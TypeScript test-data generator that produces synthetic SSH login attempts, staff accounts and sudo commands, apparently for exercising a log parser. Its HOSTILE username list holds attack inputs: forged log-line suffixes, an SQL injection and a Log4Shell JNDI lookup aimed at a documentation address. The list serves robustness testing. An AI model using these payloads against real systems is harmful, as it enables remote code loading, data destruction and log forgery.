import type { Random } from './random.ts';

/** Someone with a right to log in. */
export interface Account {
  readonly name: string;
  readonly uid: number;
  /** Where they usually come from. */
  readonly home: string;
  /** "ED25519 SHA256:…"; '' for those who use a password. */
  readonly key: string;
  readonly sudo: boolean;
}

const STAFF = [
  'anna',
  'bjorn',
  'chiara',
  'deploy',
  'emre',
  'fatima',
  'greta',
  'backup',
  'ivan',
  'jun',
  'kofi',
  'lucia',
];
const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';

/** A dozen accounts; two of three use a key. Their addresses are documentation ranges (RFC 5737, RFC 3849). */
export function staff(random: Random): Account[] {
  return STAFF.map((name, at) => ({
    name,
    uid: 1000 + at,
    home: at % 5 === 4 ? `2001:db8:1::${(at + 16).toString(16)}` : `203.0.113.${10 + 7 * (at % 4)}`,
    key: at % 3 === 2 ? '' : `${at % 4 === 1 ? 'RSA' : 'ED25519'} SHA256:${random.text(43, BASE64)}`,
    sudo: at % 2 === 0,
  }));
}

/** Accounts that exist on every host and that guessers try. */
export const REAL_NAMES = [
  'root',
  'root',
  'root',
  'root',
  'root',
  'root',
  'root',
  'www-data',
  'mysql',
  'backup',
  'games',
];

const COMMON = (
  'admin user test ubuntu oracle postgres git hadoop ftpuser guest pi support ansible jenkins nagios tomcat deploy1 dev ' +
  'centos debian ec2-user es elastic minecraft steam teamspeak ts3 vagrant zabbix weblogic webmaster web uftp ubnt sysadmin ' +
  'svn student sonar sftp server redis rabbitmq odoo operator nginx node mongo monitor master mailer kafka info hdfs ' +
  'grafana gitlab flask docker data demo db2inst1 cisco bot azureuser apache alex adm administrator 1234 a 123456 Admin'
).split(' ');

// Names that are meant to break readers. They are few in real logs, and present in all of them.
const HOSTILE = [
  '',
  ' ',
  'a b',
  'admin from 192.0.2.66',
  'x from 192.0.2.1 port 22 ssh2',
  'root\\\\r\\\\n',
  "'; DROP TABLE users;--",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what an attacker types
  '${jndi:ldap://192.0.2.9/a}',
  '[preauth]',
  'Administrador\\303\\261',
];

/** A name that no account has: mostly a common one, sometimes made up, one in 500 hostile. */
export function guessedName(random: Random): string {
  const dice = random.next();
  if (dice < 0.002) return random.pick(HOSTILE);
  if (dice < 0.75) return random.pick(COMMON);
  const word = random.text(random.between(3, 9), 'abcdefghijklmnopqrstuvwxyz');
  return dice < 0.85 ? `${word}${random.between(1, 99)}` : word;
}

/** What people run with sudo. */
export const COMMANDS = [
  '/usr/bin/systemctl restart nginx',
  '/usr/bin/apt-get update',
  '/usr/bin/apt-get -y upgrade',
  '/usr/bin/journalctl -u shop --since today',
  '/usr/bin/tail -n 200 /var/log/shop/error.log',
  '/usr/bin/vim /etc/nginx/sites-enabled/shop.conf',
  '/usr/bin/docker ps -a',
  '/usr/bin/docker compose -f /srv/shop/compose.yml up -d',
  '/usr/bin/less /var/log/mail.log',
  '/usr/sbin/nft list ruleset',
  '/usr/bin/du -xsh /srv',
  '/usr/bin/chown -R shop:shop /srv/shop',
];
